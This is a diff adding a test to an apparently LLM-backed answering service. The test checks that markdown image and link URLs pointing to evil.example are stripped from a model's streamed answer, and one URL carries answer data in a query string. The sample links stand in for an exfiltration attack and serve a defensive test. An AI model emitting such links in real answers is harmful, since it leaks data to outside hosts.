@@ -101,6 +101,16 @@ describe("an answer of a model", () => {
     expect(end!.usage!.inputTokens).toBeGreaterThan(0);
   });
 
+  it("leads to no host that no document is from, and says so", async () => {
+    provider.set({
+      answer: ["인구는 940만 명이다 [1]. ![", "x](http", "://evil.example/?q=940) [more](//evil", ".example)"],
+    });
+    const { pieces, text, end } = await ask(answererOf());
+    expect(text).toBe("인구는 940만 명이다 [1]. x more");
+    expect(pieces.some((piece) => piece.includes("evil"))).toBe(false);
+    expect(end).toMatchObject({ degradations: [{ reason: "LINK_REMOVED" }], citations: [{ number: 1 }] });
+  });
+
   it("asks with the passages as data, a limit and for usage", async () => {
     await ask(answererOf());
     const { body, key, path } = provider.requests[0]!;
